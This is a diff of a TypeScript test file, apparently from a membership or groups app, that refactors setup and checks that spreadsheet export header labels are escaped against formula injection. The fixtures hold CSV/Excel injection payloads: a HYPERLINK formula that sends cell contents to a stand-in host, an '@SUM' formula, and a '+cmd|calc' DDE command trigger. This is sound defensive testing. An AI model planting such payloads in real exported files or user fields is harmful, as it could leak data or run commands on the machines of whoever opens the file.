@@ -1,26 +1,20 @@
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import ExcelJS from 'exceljs';
-import { adminClient, makeTenant, testApp, testDialect, type Client, type TestApp } from '../../test/harness';
+import { testDialect } from '../../test/harness';
+import { adminContext } from '../../test/adminContext';
 import { makeField } from '../../test/factories';
-import type { CreatedTenant } from '../tenants/service';
 
 // The header row carries admins' labels, so it is neutralised against formulas
 // exactly like the data cells.
 describe(`export header cells (${testDialect})`, () => {
-  let t: TestApp;
-  let a: CreatedTenant;
-  let admin: Client;
+  const { t, admin } = adminContext();
 
   beforeAll(async () => {
-    t = await testApp();
-    a = await makeTenant(t.deps);
-    admin = await adminClient(t, a);
     await makeField(admin, { name: 'linkki', label: '=HYPERLINK("http://x.example/?d="&A2)', type: 'text', visibility: 2 });
     await makeField(admin, { name: 'komento', label: '@SUM(1+1)', type: 'text', visibility: 2 });
     expect((await admin.post('/api/1/groups/new', { name: 'ryhma', label: '+cmd|calc' })).status).toBe(200);
     expect((await admin.post('/api/1/members/new', { firstname: 'Aino', lastname: 'Aalto', email: 'aino@x.fi' })).status).toBe(200);
   });
-  afterAll(() => t.close());
 
   const columns = ['linkki', 'komento', 'ryhma'];
   const expected = [`'=HYPERLINK("http://x.example/?d="&A2)`, `'@SUM(1+1)`, `'+cmd|calc`];
